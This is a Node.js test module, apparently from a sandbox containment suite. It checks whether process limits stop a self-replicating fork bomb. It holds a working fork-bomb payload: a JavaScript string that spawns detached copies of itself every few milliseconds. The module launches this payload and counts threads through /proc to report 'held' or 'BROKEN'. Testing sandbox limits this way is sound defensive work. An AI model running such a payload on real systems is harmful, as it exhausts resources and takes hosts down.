// promise: proc.count
// attack: starts processes that start processes, without end
// limits: {"child_processes": true, "processes": 24, "memory_mb": 512, "timeout_s": 3}
// outcome: succeeded/ok | failed/memory | timed_out/time | failed/signal
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import { sleep } from './attack.cjs';
const bomb = `
  const { spawn } = require('child_process');
  setInterval(() => { try { spawn(process.execPath, ['-e', process.env.BOMB], { detached: true, stdio: 'ignore' }).on('error', () => {}) } catch {} }, 5)`;
const threads = () =>
  fs
    .readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .reduce((sum, pid) => sum + (fs.existsSync(`/proc/${pid}/task`) ? fs.readdirSync(`/proc/${pid}/task`).length : 0), 0);
export default async () => {
  let most = 0;
  process.env.BOMB = bomb;
  try {
    for (let i = 0; i < 8; i += 1) spawn(process.execPath, ['-e', bomb], { detached: true }).on('error', () => {});
  } catch {}
  for (let i = 0; i < 8; i += 1) {
    await sleep(50);
    try {
      most = Math.max(most, threads());
    } catch {}
  }
  return most > 40 ? `BROKEN: ${most} threads` : 'held';
};
